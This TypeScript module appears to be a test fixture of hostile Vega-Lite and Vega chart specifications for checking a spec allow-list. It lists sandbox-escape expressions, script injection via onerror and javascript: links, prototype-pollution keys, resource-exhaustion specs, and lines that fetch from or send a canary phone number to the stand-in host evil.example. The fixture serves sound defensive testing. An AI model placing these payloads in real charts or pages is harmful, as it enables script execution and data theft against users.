import { hostileVega } from './hostile-vega.ts';

/**
 * Specifications that try to reach out, to run code, to lead away or to stall the page. Shared by the tests
 * of the allow-list and by the browser test that draws them.
 */
export interface HostileSpec {
  readonly name: string;
  readonly spec: Record<string, unknown>;
}

export const evil = 'http://evil.example';

export const hostileRows = [
  {
    member: 'M-CANARY-1',
    phone: '13800000000',
    amount: 12,
    city: '上海',
    image: `${evil}/row.png`,
    url: `${evil}/row`,
    href: `${evil}/row`,
    at: 1704067200000,
  },
  {
    member: 'M-CANARY-2',
    phone: '13900000000',
    amount: 30,
    city: '北京',
    image: `${evil}/row.png`,
    url: `${evil}/row`,
    href: `${evil}/row`,
    at: 1706745600000,
  },
  {
    member: 'M-CANARY-3',
    phone: '13700000000',
    amount: 7,
    city: '<img src=x onerror="PWN=1">',
    image: `${evil}/row.png`,
    url: `${evil}/row`,
    href: 'javascript:PWN=1',
    at: 1709251200000,
  },
];

const encoding = {
  x: { field: 'city', type: 'nominal' },
  y: { field: 'amount', type: 'quantitative' },
};
const bar = { mark: { type: 'bar', tooltip: true }, encoding };

const pwn = 'window.PWN=1';

/** Ways out of an expression, by public reports and by what the interpreter and the parser would take. */
export const hostileExpressions: readonly string[] = [
  'constructor.constructor("PWN=1")()',
  "datum['toString']['constructor']('PWN=1')()",
  'datum.toString.constructor("PWN=1")()',
  'datum.constructor.constructor("PWN=1")()',
  "datum['\\x63onstructor']",
  'datum.__proto__.polluted',
  "datum['__proto__']",
  'datum[datum.city]',
  'datum.city.length',
  'datum.city.replace(/a/, "b")',
  '[].constructor.constructor("PWN=1")()',
  '"".constructor.fromCharCode(1)',
  "({}).constructor.constructor('PWN=1')()",
  '{a: 1}',
  "{'__proto__': 1}",
  'event.view.PWN = 1',
  'event.view.eval("PWN=1")',
  'event.view.open("http://evil.example/e")',
  'event.dataflow._loader.load("http://evil.example/l")',
  'item.context.canvas.ownerDocument',
  'scale("x", 1)',
  "scale('x', 1, {context: {scales: {x: {value: 1}}}})",
  "scale(event.view.setTimeout, 'PWN=1')",
  'lassoAppend([], 1, 1)',
  "lassoAppend({push: event.view.setTimeout}, 'PWN=1', 2)",
  'lassoPath([[1, 2]])',
  'vlSelectionTuples([{datum: {}}], {fields: [{getter: event.view.setTimeout}]})',
  "vlSelectionTest('a_store', datum)",
  "vlSelectionResolve('a_store')",
  'modify("rows", [1])',
  'data("rows")',
  'indata("rows", "city", 1)',
  'setdata("rows", [])',
  'inScope(item)',
  'intersect([[0, 0], [9, 9]])',
  'treePath("rows", 1, 2)',
  'geoArea("p", datum)',
  'containerSize()',
  'screen()',
  'windowSize()',
  'open("http://evil.example/e")',
  'alert(1)',
  'fetch("http://evil.example/e")',
  'import("http://evil.example/e.js")',
  'Function("PWN=1")()',
  'eval("PWN=1")',
  'setTimeout("PWN=1")',
  'window.PWN',
  'globalThis',
  'self',
  'document.cookie',
  'top.location',
  'this',
  'new Date()',
  'PWN = 1',
  'datum.amount = 1',
  'datum.amount++',
  'datum.amount; PWN',
  '`${datum.amount}`',
  '/(a+)+$/.test(datum.city)',
  'test(/(a+)+$/, datum.city)',
  "regexp('(a+)+$')",
  'sequence(1e9)',
  'sort(sequence(1e8))',
  "pad('', 1e9, 'x', 'left')",
  "format(1, '1000000000d')",
  'format(1, datum.city)',
  "format(1, '999,.0f')",
  'timeFormat(datum.at, datum.city)',
  "warn('x')",
  'info(datum)',
  'debug(datum)',
  'random()',
  'now()',
  'x => x',
  'function () { return 1 }',
  'datum.amount /* comment */ + 1',
  'datum.amount // comment',
  'datum\\u002eamount',
  'toString.constructor',
  'if.constructor',
  'datum',
  'datum.a.b',
  "datum['a']['b']",
  'datum.city()',
  'parent.datum',
  '$.params',
  '_scale("x", 1)',
  'luminance("red")',
  'encodeURIComponent(datum.city)',
  'btoa(datum.phone)',
  '"unfinished',
  '((((((((((((((((((((((((((((((((((((((((1))))))))))))))))))))))))))))))))))))))))',
  `${'1 + '.repeat(2000)}1`,
];

const places: readonly [string, (expression: string) => Record<string, unknown>][] = [
  ['calculate', (calculate) => ({ ...bar, transform: [{ calculate, as: 'made' }] })],
  ['filter', (filter) => ({ ...bar, transform: [{ filter }] })],
  ['filter.and', (test) => ({ ...bar, transform: [{ filter: { and: [{ not: test }] } }] })],
  [
    'condition',
    (test) => ({
      ...bar,
      encoding: { ...encoding, color: { condition: { test, value: 'red' }, value: 'blue' } },
    }),
  ],
  [
    'labelExpr',
    (labelExpr) => ({
      ...bar,
      encoding: { ...encoding, x: { ...encoding.x, axis: { labelExpr } } },
    }),
  ],
  ['mark expr', (expr) => ({ ...bar, mark: { type: 'bar', opacity: { expr } } })],
  ['value expr', (expr) => ({ ...bar, encoding: { ...encoding, size: { value: { expr } } } })],
  ['text expr', (expr) => ({ ...bar, mark: { type: 'text', text: { expr } } })],
  ['param expr', (expr) => ({ ...bar, params: [{ name: 'p', expr }] })],
  [
    'axis condition',
    (test) => ({
      ...bar,
      encoding: {
        ...encoding,
        x: {
          ...encoding.x,
          axis: { labelColor: { condition: { test, value: 'red' }, value: 'blue' } },
        },
      },
    }),
  ],
];

function hostileExpressionSpecs(): readonly HostileSpec[] {
  return hostileExpressions.map((expression, index) => {
    const [place, make] = places[index % places.length] as (typeof places)[number];
    return { name: `${place}: ${expression.slice(0, 60)}`, spec: make(expression) };
  });
}

const channelNames = ['href', 'url', 'key', 'latitude', 'longitude', 'cursor', 'geoshape'];

const reaching: readonly HostileSpec[] = [
  { name: 'data.url', spec: { ...bar, data: { url: `${evil}/data.json` } } },
  {
    name: 'data.url csv in a layer',
    spec: { layer: [{ ...bar, data: { url: `${evil}/layer.csv` } }] },
  },
  {
    name: 'data.url in a concat',
    spec: { hconcat: [{ ...bar, data: { url: `${evil}/concat.csv` } }] },
  },
  {
    name: 'data.url in a facet',
    spec: { data: { url: `${evil}/facet.csv` }, facet: { field: 'city' }, spec: bar },
  },
  { name: 'data.values', spec: { ...bar, data: { values: [{ city: 'a', amount: 1 }] } } },
  { name: 'data.name of another', spec: { ...bar, data: { name: 'secrets' } } },
  { name: 'data.sequence', spec: { ...bar, data: { sequence: { start: 0, stop: 1e9 } } } },
  { name: 'data.graticule', spec: { ...bar, data: { graticule: { step: [0.001, 0.001] } } } },
  { name: 'data.sphere', spec: { ...bar, data: { sphere: true } } },
  {
    name: 'topojson',
    spec: {
      mark: 'geoshape',
      data: { url: `${evil}/world.json`, format: { type: 'topojson', feature: 'countries' } },
    },
  },
  { name: 'datasets', spec: { ...bar, datasets: { rows: [{ city: 'a' }] } } },
  {
    name: 'lookup from url',
    spec: {
      ...bar,
      transform: [
        {
          lookup: 'member',
          from: { data: { url: `${evil}/lookup.csv` }, key: 'id', fields: ['v'] },
        },
      ],
    },
  },
  {
    name: 'lookup from a param',
    spec: { ...bar, transform: [{ lookup: 'member', from: { param: 'p', key: 'id' } }] },
  },
  {
    name: 'image mark',
    spec: {
      mark: { type: 'image', width: 20, height: 20 },
      encoding: { ...encoding, url: { field: 'image', type: 'nominal' } },
    },
  },
  {
    name: 'image mark with a fixed address',
    spec: { mark: { type: 'image', url: `${evil}/i.png` }, encoding },
  },
  {
    name: 'image mark in a layer',
    spec: { layer: [bar, { mark: { type: 'image', url: `${evil}/l.png` }, encoding }] },
  },
  { name: 'mark.href', spec: { ...bar, mark: { type: 'bar', href: `${evil}/href` } } },
  {
    name: 'href by value',
    spec: { ...bar, encoding: { ...encoding, href: { value: `${evil}/href` } } },
  },
  {
    name: 'href by field',
    spec: { ...bar, encoding: { ...encoding, href: { field: 'href', type: 'nominal' } } },
  },
  {
    name: 'href by calculation with the phone',
    spec: {
      ...bar,
      transform: [{ calculate: `'${evil}/?p=' + datum.phone`, as: 'link' }],
      encoding: { ...encoding, href: { field: 'link', type: 'nominal' } },
    },
  },
  { name: 'href to script', spec: { ...bar, mark: { type: 'bar', href: `javascript:${pwn}` } } },
  {
    name: 'href by condition',
    spec: {
      ...bar,
      encoding: { ...encoding, href: { condition: { test: 'true', value: `${evil}/c` } } },
    },
  },
  { name: 'title.href', spec: { ...bar, title: { text: 'a', href: `${evil}/t` } } },
  {
    name: 'tooltip image',
    spec: {
      ...bar,
      encoding: {
        ...encoding,
        tooltip: [{ field: 'image', type: 'nominal', title: 'image' }],
        href: { field: 'url' },
      },
    },
  },
  {
    name: 'tooltip content data with an image',
    spec: { ...bar, mark: { type: 'bar', tooltip: { content: 'data' } }, usermeta: {} },
  },
  {
    name: 'tooltip by signal',
    spec: { ...bar, mark: { type: 'bar', tooltip: { signal: `{image: '${evil}/s.png'}` } } },
  },
  {
    name: 'fill from an address',
    spec: { ...bar, mark: { type: 'bar', fill: `url(${evil}/f.svg#a)` } },
  },
  {
    name: 'colour of the row itself',
    spec: {
      ...bar,
      encoding: { ...encoding, color: { field: 'url', type: 'nominal', scale: null } },
    },
  },
  {
    name: 'colour range with an address',
    spec: {
      ...bar,
      encoding: {
        ...encoding,
        color: { field: 'city', type: 'nominal', scale: { range: [`url(${evil}/r)`, 'red'] } },
      },
    },
  },
  {
    name: 'cursor from an address',
    spec: { ...bar, mark: { type: 'bar', cursor: `url(${evil}/c.cur), pointer` } },
  },
  {
    name: 'font with an address',
    spec: { ...bar, mark: { type: 'text', font: `x; src: url(${evil}/font)` } },
  },
  {
    name: 'gradient',
    spec: {
      ...bar,
      mark: {
        type: 'bar',
        color: { gradient: 'linear', stops: [{ offset: 0, color: `url(${evil}/g)` }] },
      },
    },
  },
  {
    name: 'shape from the row',
    spec: {
      mark: 'point',
      encoding: { ...encoding, shape: { field: 'city', type: 'nominal', scale: null } },
    },
  },
  { name: 'background address', spec: { ...bar, background: `url(${evil}/bg.png)` } },
  {
    name: 'config background',
    spec: { ...bar, config: { background: `url(${evil}/bg.png)`, style: {} } },
  },
  { name: 'config string', spec: { ...bar, config: `${evil}/config.json` } },
  {
    name: 'config events and locale',
    spec: {
      ...bar,
      config: { events: { defaults: { allow: true } }, locale: {}, customFormatTypes: true },
    },
  },
  { name: 'projection', spec: { ...bar, projection: { type: 'mercator' } } },
  {
    name: 'signals',
    spec: { ...bar, signals: [{ name: 's', init: pwn, on: [{ events: 'click', update: pwn }] }] },
  },
  {
    name: 'vega specification',
    spec: {
      $schema: 'https://vega.github.io/schema/vega/v6.json',
      signals: [{ name: 's', init: 'open("http://evil.example")' }],
      marks: [{ type: 'image', encode: { enter: { url: { value: `${evil}/m.png` } } } }],
    },
  },
  {
    name: 'schema by another name',
    spec: { ...bar, $schema: 'https://vega.github.io/schema/vega/v6.json' },
  },
  { name: 'spec by address', spec: { spec: `${evil}/spec.json` } },
  { name: 'autosize with resize', spec: { ...bar, autosize: { type: 'fit', resize: true } } },
];

const embedOptions: Readonly<Record<string, unknown>> = {
  loader: { baseURL: `${evil}/`, http: { credentials: 'include' } },
  patch: `${evil}/patch.json`,
  'patch list': [{ op: 'add', path: '/marks/0/type', value: 'image' }],
  config: `${evil}/config.json`,
  ast: false,
  actions: true,
  sourceHeader: `<img src="${evil}/header.png">`,
  sourceFooter: `<script>${pwn}</script>`,
  defaultStyle: `@import url(${evil}/style.css)`,
  editorUrl: `${evil}/editor`,
  tooltip: { sanitize: false },
  bind: 'body',
  theme: 'dark',
  renderer: 'canvas',
  expressionFunctions: { pwn: pwn },
  formatLocale: {},
  hover: true,
  downloadFileName: '../../x',
};

const usermeta: readonly HostileSpec[] = Object.entries(embedOptions).flatMap(([name, value]) => {
  const meta = { embedOptions: { [name.split(' ')[0] ?? name]: value } };
  return [
    { name: `usermeta ${name}`, spec: { ...bar, usermeta: meta } },
    { name: `usermeta ${name} in a layer`, spec: { layer: [{ ...bar, usermeta: meta }] } },
  ];
});

const params: readonly HostileSpec[] = [
  ['on with a filter', { select: { type: 'point', on: `click[event.view.PWN=1]` } }],
  [
    'on with a filter object',
    { select: { type: 'point', on: { type: 'click', filter: 'event.view.PWN=1' } } },
  ],
  [
    'on the window',
    { select: { type: 'interval', on: '[window:mousedown, window:mouseup] > window:mousemove' } },
  ],
  ['on a selector', { select: { type: 'point', on: '#secret:click' } }],
  ['on with consume', { select: { type: 'point', on: 'wheel!' } }],
  ['on merged', { select: { type: 'point', on: { merge: [{ type: 'click' }] } } }],
  ['on by timer', { select: { type: 'point', on: 'timer{1}' } }],
  ['clear with a filter', { select: { type: 'point', clear: `dblclick[event.view.PWN=1]` } }],
  ['toggle by expression', { select: { type: 'point', toggle: 'event.view.PWN=1' } }],
  [
    'translate by events',
    {
      select: { type: 'interval', translate: '[mousedown[event.view.PWN=1], mouseup] > mousemove' },
    },
  ],
  ['zoom by events', { select: { type: 'interval', zoom: 'wheel![event.view.PWN=1]' } }],
  [
    'bind to an input',
    { select: { type: 'point', fields: ['city'] }, bind: { input: 'text', element: 'body' } },
  ],
  ['bind a value to an element', { value: 1, bind: { element: '#secret', event: 'input' } }],
  ['bind a value to a range', { value: 1, bind: { input: 'range', min: 0, max: 10 } }],
  ['react to an event', { value: 1, on: [{ events: 'click', update: pwn }] }],
  ['initial href', { value: { href: `${evil}/p` } }],
  ['named datum', { name: 'datum', value: 1 }],
  ['named __proto__', { name: '__proto__', value: 1 }],
  ['named as code', { name: 'a"]; PWN=1; ["', value: 1 }],
  ['fields into the prototype', { select: { type: 'point', fields: ['constructor.constructor'] } }],
].map(([name, param]) => ({
  name: `param ${String(name)}`,
  spec: { ...bar, params: [{ name: 'p', ...(param as object) }] },
}));

function withOwn(key: string, value: unknown): Record<string, unknown> {
  return JSON.parse(`{${JSON.stringify(key)}: ${JSON.stringify(value)}}`) as Record<
    string,
    unknown
  >;
}

const prototypes: readonly HostileSpec[] = [
  {
    name: '__proto__ key',
    spec: {
      ...bar,
      ...withOwn('x', 1),
      encoding: Object.assign(withOwn('__proto__', { polluted: 1 }), encoding),
    },
  },
  { name: 'constructor key', spec: { ...bar, constructor: { prototype: { polluted: 1 } } } },
  {
    name: 'prototype in encoding',
    spec: { ...bar, encoding: { ...encoding, prototype: { field: 'x' } } },
  },
  {
    name: 'field __proto__',
    spec: { ...bar, encoding: { ...encoding, color: { field: '__proto__.polluted' } } },
  },
  {
    name: 'field constructor',
    spec: { ...bar, encoding: { ...encoding, color: { field: 'constructor.constructor' } } },
  },
  {
    name: 'field in brackets',
    spec: { ...bar, encoding: { ...encoding, color: { field: "city['__proto__']['polluted']" } } },
  },
  { name: 'as __proto__', spec: { ...bar, transform: [{ calculate: '1', as: '__proto__' }] } },
  { name: 'as with code', spec: { ...bar, transform: [{ calculate: '1', as: 'a"]; PWN=1; ["' }] } },
  {
    name: 'fold as constructor',
    spec: { ...bar, transform: [{ fold: ['amount'], as: ['constructor', 'prototype'] }] },
  },
  {
    name: 'group by __proto__',
    spec: {
      ...bar,
      transform: [{ aggregate: [{ op: 'sum', field: 'amount', as: 's' }], groupby: ['__proto__'] }],
    },
  },
];

function nested(depth: number): Record<string, unknown> {
  return depth === 0 ? bar : { layer: [nested(depth - 1)] };
}

function cyclic(): Record<string, unknown> {
  const layer: unknown[] = [];
  const spec = { layer };
  for (let index = 0; index < 20; index += 1) layer.push(spec);
  return spec;
}

function deepFilter(depth: number): unknown {
  return depth === 0 ? 'true' : { not: deepFilter(depth - 1) };
}

const bombs: readonly HostileSpec[] = [
  { name: 'width of a billion', spec: { ...bar, width: 1e9 } },
  { name: 'height of a million', spec: { ...bar, height: 1e6 } },
  { name: 'step of a million', spec: { ...bar, width: { step: 1e6 } } },
  { name: 'width NaN', spec: { ...bar, width: Number.NaN } },
  { name: '10,000 layers', spec: { layer: Array.from({ length: 10_000 }, () => bar) } },
  { name: '1,000 views side by side', spec: { hconcat: Array.from({ length: 1_000 }, () => bar) } },
  {
    name: '20 by 20 views',
    spec: {
      vconcat: Array.from({ length: 20 }, () => ({
        hconcat: Array.from({ length: 20 }, () => bar),
      })),
    },
  },
  { name: 'layers 2,000 deep', spec: nested(2_000) },
  { name: 'a layer of itself', spec: cyclic() },
  { name: 'a filter 500 deep', spec: { ...bar, transform: [{ filter: deepFilter(500) }] } },
  {
    name: '100,000 bins',
    spec: { ...bar, encoding: { ...encoding, x: { field: 'amount', bin: { maxbins: 100_000 } } } },
  },
  {
    name: 'bins of a billionth',
    spec: { ...bar, encoding: { ...encoding, x: { field: 'amount', bin: { step: 1e-9 } } } },
  },
  {
    name: 'bins of a billionth within ends',
    spec: {
      ...bar,
      encoding: { ...encoding, x: { field: 'amount', bin: { step: 1e-6, extent: [0, 1e6] } } },
    },
  },
  {
    name: 'bins to the base of one',
    spec: { ...bar, encoding: { ...encoding, x: { field: 'amount', bin: { base: 1 } } } },
  },
  {
    name: 'a million ticks',
    spec: { ...bar, encoding: { ...encoding, y: { ...encoding.y, axis: { tickCount: 1e6 } } } },
  },
  {
    name: 'ticks by the millisecond',
    spec: {
      ...bar,
      encoding: {
        ...encoding,
        x: { field: 'at', type: 'temporal', axis: { tickCount: 'millisecond' } },
      },
    },
  },
  {
    name: 'ticks by the second as an object',
    spec: {
      ...bar,
      encoding: {
        ...encoding,
        x: { field: 'at', type: 'temporal', axis: { tickCount: { interval: 'second', step: 1 } } },
      },
    },
  },
  {
    name: 'a domain without end',
    spec: {
      ...bar,
      encoding: {
        ...encoding,
        x: {
          field: 'at',
          type: 'temporal',
          scale: { domain: [-8.64e15, 8.64e15] },
          axis: { tickCount: 'month' },
        },
      },
    },
  },
  {
    name: 'a domain by six-digit years',
    spec: {
      ...bar,
      encoding: {
        ...encoding,
        x: { field: 'at', type: 'temporal', scale: { domain: ['-271820-01-01', '+275760-01-01'] } },
      },
    },
  },
  {
    name: 'a logarithm to the base of nearly one',
    spec: {
      ...bar,
      encoding: { ...encoding, y: { ...encoding.y, scale: { type: 'log', base: 1.0000001 } } },
    },
  },
  {
    name: 'a scheme of a million colours',
    spec: {
      ...bar,
      encoding: {
        ...encoding,
        color: { field: 'amount', scale: { scheme: { name: 'blues', count: 1e6 } } },
      },
    },
  },
  {
    name: 'a format a billion wide',
    spec: {
      ...bar,
      encoding: { ...encoding, y: { ...encoding.y, axis: { format: '1000000000d' } } },
    },
  },
  {
    name: 'a format type of its own',
    spec: {
      ...bar,
      encoding: { ...encoding, y: { ...encoding.y, axis: { format: 'x', formatType: 'pwn' } } },
    },
  },
  {
    name: 'density in a billion steps',
    spec: { ...bar, transform: [{ density: 'amount', steps: 1e9 }] },
  },
  {
    name: 'quantiles in billionths',
    spec: { ...bar, transform: [{ quantile: 'amount', step: 1e-9 }] },
  },
  {
    name: 'an imputed sequence',
    spec: {
      ...bar,
      transform: [{ impute: 'amount', key: 'at', keyvals: { start: 0, stop: 1e9 } }],
    },
  },
  {
    name: 'a fold of 10,000 fields',
    spec: {
      ...bar,
      transform: [{ fold: Array.from({ length: 10_000 }, (_, index) => `f${index}`) }],
    },
  },
  {
    name: '10,000 transforms',
    spec: { ...bar, transform: Array.from({ length: 10_000 }, () => ({ filter: 'true' })) },
  },
  { name: 'a sample', spec: { ...bar, transform: [{ sample: 1e9 }] } },
  {
    name: 'a repeat',
    spec: { repeat: Array.from({ length: 5_000 }, (_, index) => `f${index}`), spec: bar },
  },
  { name: 'a title of a million characters', spec: { ...bar, title: 'x'.repeat(1e6) } },
  { name: 'a font size of a billion', spec: { ...bar, mark: { type: 'text', fontSize: 1e9 } } },
  {
    name: '100,000 unknown keys',
    spec: {
      ...bar,
      ...Object.fromEntries(Array.from({ length: 100_000 }, (_, index) => [`k${index}`, 1])),
    },
  },
  {
    name: 'parameters in a circle',
    spec: {
      ...bar,
      params: [
        { name: 'a', expr: 'b' },
        { name: 'b', expr: 'a' },
        { name: 'c', expr: 'nobody' },
      ],
    },
  },
];

const channels: readonly HostileSpec[] = channelNames.map((name) => ({
  name: `channel ${name}`,
  spec: { ...bar, encoding: { ...encoding, [name]: { value: `${evil}/channel` } } },
}));

const oddities: readonly HostileSpec[] = [
  { name: 'no mark', spec: { encoding } },
  { name: 'empty layers', spec: { layer: [] } },
  { name: 'mark as a list', spec: { mark: ['bar'], encoding } },
  { name: 'an unknown mark', spec: { mark: 'iframe', encoding } },
  { name: 'a geoshape', spec: { mark: 'geoshape', encoding } },
  { name: 'encoding as text', spec: { mark: 'bar', encoding: 'x' } },
  {
    name: 'bootstrapped bands draw lots',
    spec: { ...bar, mark: { type: 'errorband', extent: 'ci' } },
  },
  { name: 'style by name', spec: { ...bar, mark: { type: 'bar', style: 'guide-label' } } },
  {
    name: 'format type in text',
    spec: {
      mark: 'text',
      encoding: { ...encoding, text: { field: 'amount', formatType: 'eval', format: 'x' } },
    },
  },
];

export const hostileSpecs: readonly HostileSpec[] = [
  ...reaching,
  ...channels,
  ...usermeta,
  ...params,
  ...prototypes,
  ...bombs,
  ...oddities,
  ...hostileVega,
  ...hostileExpressionSpecs(),
];
